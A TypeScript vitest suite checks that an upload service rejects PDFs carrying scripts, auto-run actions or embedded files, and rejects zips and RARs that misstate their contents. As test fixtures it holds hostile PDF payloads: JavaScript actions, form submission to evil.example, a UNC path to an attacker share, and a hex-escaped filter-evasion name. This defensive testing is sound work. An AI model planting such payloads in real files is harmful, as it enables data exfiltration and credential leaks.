import { beforeAll, describe, expect, it } from 'vitest';
import { pdf } from '../../../tests/support/sample-files/pdf.ts';
import {
  compoundMentioningWord,
  pdfWithObjectStream,
  rar,
  rarSignatureThenJunk,
  zipInZip,
  zipLyingAboutSize,
} from './files-samples.ts';
import { fileRows, type Member, member, smallFilesForFile, upload } from './files-support.ts';

const h = smallFilesForFile();
let owner: Member;
beforeAll(async () => {
  owner = await member(h);
});

const PDF_ACTIONS = { code: -6005, msg: 'PDF文件含有脚本、自动执行的动作或内嵌文件，不允许上传', data: null };

async function refused(name: string, bytes: Buffer, expected: object): Promise<void> {
  const before = await fileRows(h);
  const answer = await upload(h.app, owner.token, name, bytes);
  expect(answer.body).toEqual(expected);
  expect(await fileRows(h)).toBe(before);
}

describe('active PDFs are refused, object streams and escaped names included', () => {
  const objectStreams: [string, string[]][] = [
    ['/JavaScript', ['<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>']],
    ['/JS', ['<< /Type /Action /S /Named /JS 7 0 R >>', '(this.exportDataObject())']],
    ['/EmbeddedFile', ['<< /Type /EmbeddedFile /Length 5 >>']],
    ['/J#61vaScript (hex-escaped)', ['<< /S /J#61vaScript /JS (x) >>']],
  ];
  for (const [what, objects] of objectStreams) {
    it(`refuses ${what} inside a Flate-compressed object stream`, async () => {
      const bytes = pdfWithObjectStream(objects);
      expect(bytes.toString('latin1')).not.toContain(what.split(' ')[0]);
      await refused('a.pdf', bytes, PDF_ACTIONS);
    });
  }

  const actions: [string, string][] = [
    ['an /OpenAction opening a URI', '/OpenAction << /S /URI /URI (https://evil.example/track) >> '],
    ['an /OpenAction by reference', '/OpenAction 5 0 R '],
    ['additional actions (/AA)', '/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >> '],
    ['/SubmitForm', '/Foo << /S /SubmitForm /F (https://evil.example/collect) >> '],
    ['/ImportData', '/Foo << /S /ImportData /F (data.fdf) >> '],
    ['/GoToR to a UNC path', '/Foo << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >> '],
    ['/GoToE', '/Foo << /S /GoToE /T << /R /C /N (a) >> >> '],
    ['an /XFA form', '/AcroForm << /Fields [] /XFA 5 0 R >> '],
    ['/J#61vaScript in plain sight', '/Foo << /S /J#61vaScript /JS (x) >> '],
  ];
  for (const [what, extra] of actions) {
    it(`refuses ${what}`, async () => {
      await refused('a.pdf', pdf(extra), PDF_ACTIONS);
    });
  }

  it('refuses an object stream it cannot unpack (another filter) as unreadable', async () => {
    await refused('a.pdf', pdfWithObjectStream(['<< /Dests << >> >>'], '/LZWDecode'), {
      code: -6005,
      msg: 'PDF文件结构无法识别，请重新保存为PDF后上传',
      data: null,
    });
  });

  it('takes a clean object stream, a link to a web page and an /OpenAction that opens a page', async () => {
    for (const bytes of [
      pdfWithObjectStream(['<< /Dests << >> >>']),
      pdf('/Foo << /S /URI /URI (https://www.gov.cn/) >> '),
      pdf('/OpenAction [3 0 R /Fit] '),
    ]) {
      expect((await upload(h.app, owner.token, 'ok.pdf', bytes)).body).toMatchObject({ code: 0 });
    }
  });
});

describe('archives are checked by what they hold, not by what they declare', () => {
  it('refuses a zip declaring 1,000 bytes for a 50 MB stream (unpacking stops at the declared size)', async () => {
    await refused('small.zip', await zipLyingAboutSize(50), {
      code: -6006,
      msg: '压缩文件已损坏，请重新压缩后上传',
      data: null,
    });
  });

  it('refuses a zip inside a zip', async () => {
    await refused('materials.zip', zipInZip(), {
      code: -6006,
      msg: '压缩文件内不能再包含压缩文件，请解压后重新打包上传',
      data: null,
    });
  });

  it('refuses a body after a RAR signature that is no RAR archive, and takes a real one', async () => {
    await refused('a.rar', rarSignatureThenJunk(), {
      code: -6006,
      msg: '压缩文件已损坏，请重新压缩后上传',
      data: null,
    });
    expect((await upload(h.app, owner.token, 'a.rar', rar())).body).toMatchObject({ code: 0 });
  });

  it('refuses a compound file that only mentions "WordDocument" (no such stream in its directory)', async () => {
    await refused('report.doc', compoundMentioningWord(), {
      code: -6004,
      msg: '文件内容与扩展名不符，请上传真实的文件',
      data: null,
    });
  });
});
